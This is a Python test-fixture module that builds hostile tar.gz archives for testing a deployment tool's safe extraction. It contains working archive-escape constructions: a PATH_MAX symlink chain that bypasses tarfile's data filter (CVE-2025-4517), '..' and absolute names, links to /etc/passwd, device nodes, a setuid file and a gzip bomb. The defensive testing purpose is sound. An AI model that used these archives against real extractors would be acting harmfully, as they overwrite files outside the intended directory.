"""What a hostile party makes. Archives a compromised host would send: the members that
escape tarfile's own extractall(filter="data") on Pythons without the fix of CVE-2025-4517 (a
chain of symbolic links whose expansion passes PATH_MAX), files written through them, `..` and
absolute names, links, a device node and a fifo, and a gzip bomb. Used by the unit tests of
deploy/host/archive.py and by the tampered host of tests/integration/test_hostile_host.py. And
another user's link, in a directory open to all, offered as a workdir.
"""
from __future__ import annotations

import io
import os
import pwd
import tarfile
from pathlib import Path

STEPS = "abcdefghijklmnop"
PATH_MAX = 4096
WRITTEN = b"written by the archive\n"


def component_length(dest: str) -> int:
    """The length of each directory of the chain, so that `dest` plus the chain fits in
    PATH_MAX unexpanded and overflows it once the last link is expanded (CPython's own test
    of the CVE)."""
    return (PATH_MAX - len(dest) - 1) // (len(STEPS) + 1)


def add(tar: tarfile.TarFile, name: str, kind: bytes = tarfile.REGTYPE, data: bytes = b"",
        link: str = "", mode: int = 0o644) -> None:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, link, mode
    if kind == tarfile.DIRTYPE:
        info.mode = 0o777
    if kind in (tarfile.CHRTYPE, tarfile.BLKTYPE):
        info.devmajor, info.devminor = 1, 3
    info.size = len(data) if kind == tarfile.REGTYPE else 0
    tar.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)


def escape_chain(tar: tarfile.TarFile, dest: str, target: str) -> None:
    """Members that, unpacked into `dest` by a vulnerable tarfile, lead `escape` to `target`
    (a directory outside `dest`, relative to it, e.g. `../../victim`) and write
    `escape/flag` and `escape/newfile` there, overwriting `flag` through a hard link too."""
    component = "d" * component_length(dest)
    path = ""
    for step in STEPS:
        add(tar, os.path.join(path, component), tarfile.DIRTYPE)
        add(tar, os.path.join(path, step), tarfile.SYMTYPE, link=component)
        path = os.path.join(path, component)
    # Never expanded by realpath(strict=False), nor anything after it: it leads back to dest.
    linkpath = os.path.join(*STEPS, "l" * 254)
    add(tar, linkpath, tarfile.SYMTYPE, link=os.path.join(*[".."] * len(STEPS)))
    add(tar, "escape", tarfile.SYMTYPE, link=os.path.join(linkpath, target))
    add(tar, "flaglink", tarfile.LNKTYPE, link="escape/flag")
    add(tar, "flaglink", data=WRITTEN)
    add(tar, "escape/newfile", data=WRITTEN)


def plain_escapes(tar: tarfile.TarFile, target: str) -> None:
    """The classic ways out, and what must never be made: `..` and absolute names, links
    out, a device node, a fifo, a setuid file."""
    add(tar, os.path.join("..", target, "dotdot"), data=WRITTEN)
    add(tar, os.path.join("ok", "..", "..", target, "dotdot2"), data=WRITTEN)
    add(tar, "/tmp/tfdeploy-absolute-" + os.urandom(4).hex(), data=WRITTEN)
    add(tar, "uplink", tarfile.SYMTYPE, link=os.path.join("..", target))
    add(tar, "uplink/through", data=WRITTEN)
    add(tar, "passwd", tarfile.LNKTYPE, link="/etc/passwd")
    add(tar, "null", tarfile.CHRTYPE)
    add(tar, "disk", tarfile.BLKTYPE)
    add(tar, "pipe", tarfile.FIFOTYPE)
    add(tar, "setuid", data=b"#!/bin/sh\n", mode=0o4777)


def hostile_tar_gz(dest: str, target: str, honest: bytes = b"") -> bytes:
    """A tar.gz for `dest`: the members of the honest tar.gz `honest` (if any), then every
    hostile member above, aimed at `target` (relative to `dest`)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz", format=tarfile.PAX_FORMAT) as tar:
        if honest:
            with tarfile.open(fileobj=io.BytesIO(honest), mode="r:gz") as source:
                for member in source:
                    tar.addfile(member, source.extractfile(member) if member.isfile() else None)
        escape_chain(tar, dest, target)
        plain_escapes(tar, target)
    return buf.getvalue()


def listing(archive: bytes) -> dict[str, list[int]]:
    """Every regular member of the tar.gz as a backup's host lists its files: [size,
    mtime_ns]."""
    with tarfile.open(fileobj=io.BytesIO(archive), mode="r:gz") as tar:
        return {m.name: [m.size, int(m.pax_headers.get("TFDEPLOY.mtime_ns", 0))]
                for m in tar if m.isfile()}


def gzip_bomb(unpacked: int) -> bytes:
    """A tar.gz of one file of `unpacked` zero bytes: about a thousandth of that in size."""
    buf = io.BytesIO()

    class Zeros(io.RawIOBase):
        def __init__(self) -> None:
            self.left = unpacked

        def readable(self) -> bool:
            return True

        def readinto(self, b) -> int:
            n = min(len(b), self.left)
            b[:n] = bytes(n)
            self.left -= n
            return n

    with tarfile.open(fileobj=buf, mode="w:gz", compresslevel=9) as tar:
        info = tarfile.TarInfo("zeros")
        info.size = unpacked
        tar.addfile(info, io.BufferedReader(Zeros(), 1 << 20))
    return buf.getvalue()


def foreign_link(root: Path) -> tuple[Path, Path]:
    """(link, target): in `root`/tmp, open to all and sticky as /tmp is, nobody's link to the
    directory `root`/target of ours (root only: giving a link away needs it)."""
    nobody = pwd.getpwnam("nobody")
    sticky = root / "tmp"
    sticky.mkdir()
    sticky.chmod(0o1777)
    target = root / "target"
    target.mkdir(mode=0o700)
    link = sticky / "work"
    link.symlink_to(target)
    os.lchown(link, nobody.pw_uid, nobody.pw_gid)
    return link, target
